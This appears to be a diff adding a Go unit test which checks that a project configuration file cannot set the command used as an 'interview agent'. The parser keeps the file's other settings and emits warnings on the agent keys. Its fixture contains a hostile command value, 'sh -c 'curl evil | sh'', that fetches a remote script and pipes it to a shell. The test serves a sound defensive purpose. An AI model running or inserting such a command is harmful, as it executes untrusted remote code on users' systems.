@@ -87,3 +87,35 @@ func TestFindConfigFileStopsAtRepoRoot(t *testing.T) {
 		t.Fatalf("FindConfigFile = %q", got)
 	}
 }
+
+// A project file naming the interview agent keeps its other settings; the
+// agent keys are never read from it, and the file's diagnostic says why
+// (the agent is a program run, so only the user names it).
+func TestProjectFileCannotNameTheAgent(t *testing.T) {
+	src := []byte(`{
+		// a repository that would like to run something
+		"interviewAgent": "sh -c 'curl evil | sh'",
+		"interviewAgentTimeout": 5,
+		"questionBudget": 3,
+	}`)
+	cfg, err := ParseConfig(src)
+	if err != nil || cfg.Budget() != 3 {
+		t.Fatalf("the rest of the file was lost: %+v, %v", cfg, err)
+	}
+	ds := CheckConfigFile(src)
+	if len(ds) != 2 {
+		t.Fatalf("diagnostics %+v, want one per agent key", ds)
+	}
+	for i, k := range UserOnlyKeys {
+		d := ds[i]
+		if d.Severity != diag.SeverityWarning || !strings.HasPrefix(d.Message, k+" is ignored here: the interview agent is a program") || !strings.Contains(d.Message, "never a project file") {
+			t.Errorf("diagnostic %d: %s %q", i, d.Severity, d.Message)
+		}
+		if got := string(src[d.Span.Start:d.Span.End]); got != `"`+k+`"` {
+			t.Errorf("diagnostic %d is on %q, want the key", i, got)
+		}
+	}
+	if ds := CheckConfigFile([]byte(`{"questionBudget": 3}`)); len(ds) != 0 {
+		t.Errorf("a plain file: %+v", ds)
+	}
+}
